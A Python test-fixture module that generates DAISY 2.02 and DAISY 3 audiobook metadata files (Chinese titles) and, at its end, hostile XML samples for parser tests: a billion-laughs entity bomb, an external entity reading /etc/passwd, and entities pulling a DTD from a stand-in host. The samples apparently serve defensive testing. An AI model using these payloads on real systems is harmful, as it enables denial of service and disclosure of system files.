"""Talking books made for the tests: DAISY 2.02 and DAISY 3 metadata, Chinese, as folders and zips,
and hostile files named after their fault."""

from __future__ import annotations

import zipfile
from pathlib import Path

XHTML_DOCTYPE = (
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"'
    ' "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
)


def ncc(
    title="平凡的世界",
    creator="路遥",
    narrator="李野墨",
    identifier="CBP-DAISY-2019-0042",
    total="26:41:07",
    set_info="1 of 3",
    encoding="utf-8",
) -> bytes:
    """A DAISY 2.02 navigation control centre, as CDs from 中国盲文出版社 carry them."""
    text = f"""<?xml version="1.0" encoding="{encoding}"?>
{XHTML_DOCTYPE}
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="zh-CN" lang="zh-CN">
<head>
  <meta http-equiv="Content-type" content="text/html; charset={encoding}" />
  <title>{title}</title>
  <meta name="dc:title" content="{title}" />
  <meta name="dc:creator" content="{creator}" />
  <meta name="dc:identifier" content="{identifier}" />
  <meta name="dc:format" content="Daisy 2.02" />
  <meta name="dc:publisher" content="中国盲文出版社" />
  <meta name="dc:date" content="2019-06-01" />
  <meta name="dc:language" content="zh-CN" />
  <meta name="ncc:narrator" content="{narrator}" />
  <meta name="ncc:totalTime" content="{total}" />
  <meta name="ncc:multimediaType" content="audioNcc" />
  <meta name="ncc:setInfo" content="{set_info}" />
  <meta name="ncc:charset" content="{encoding}" />
</head>
<body>
  <h1 class="title" id="h1"><a href="s0001.smil#t1">{title}&nbsp;第一部</a></h1>
</body>
</html>
"""
    return text.encode(encoding)


def opf(title="活着", creator="余华", narrator="关山", identifier="ISBN 978-7-5063-6543-7", total="08:15:30") -> bytes:
    """A DAISY 3 (Z39.86-2005) package file."""
    return f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE package PUBLIC "+//ISBN 0-9673008-1-9//DTD OEB 1.2 Package//EN" "http://openebook.org/dtds/oeb-1.2/oebpkg12.dtd">
<package xmlns="http://openebook.org/namespaces/oeb-package/1.0/" unique-identifier="uid">
  <metadata>
    <dc-metadata xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:oebpackage="http://openebook.org/namespaces/oeb-package/1.0/">
      <dc:Title>{title}</dc:Title>
      <dc:Creator>{creator}</dc:Creator>
      <dc:Publisher>作家出版社</dc:Publisher>
      <dc:Date>2012-08-01</dc:Date>
      <dc:Format>ANSI/NISO Z39.86-2005</dc:Format>
      <dc:Identifier id="isbn">{identifier}</dc:Identifier>
      <dc:Identifier id="uid">CN-ZGMW-{identifier[-6:]}</dc:Identifier>
      <dc:Language>zh-CN</dc:Language>
    </dc-metadata>
    <x-metadata>
      <meta name="dtb:multimediaType" content="audioFullText" />
      <meta name="dtb:totalTime" content="{total}" />
      <meta name="dtb:narrator" content="{narrator}" />
    </x-metadata>
  </metadata>
  <manifest><item id="opf" href="book.opf" media-type="text/xml" /></manifest>
  <spine><itemref idref="opf" /></spine>
</package>
""".encode()


def folder(tmp_path: Path, name: str, files: dict[str, bytes]) -> Path:
    root = tmp_path / name
    for relative, data in files.items():
        target = root / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    return root


def zipped(tmp_path: Path, name: str, files: dict[str, bytes]) -> Path:
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for relative, data in files.items():
            archive.writestr(relative, data)
    return path


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE html [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<html><head><title>&lol9;</title><meta name="dc:title" content="&lol9;"/></head></html>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE html [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<html><head><meta name="dc:title" content="x"/><title>&secret;</title></head></html>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE html [ <!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote; ]>
<html><head><meta name="dc:title" content="x"/></head></html>
"""
EXTERNAL_DTD_ENTITY = b"""<?xml version="1.0" standalone="no"?>
<!DOCTYPE html SYSTEM "http://192.0.2.1/evil.dtd">
<html><head><meta name="dc:title" content="x"/><title>&evil;</title></head></html>
"""
MALFORMED = """<?xml version="1.0" encoding="utf-8"?>
<html><head><meta name="dc:title" content="平凡的世界"></head></html>
""".encode()
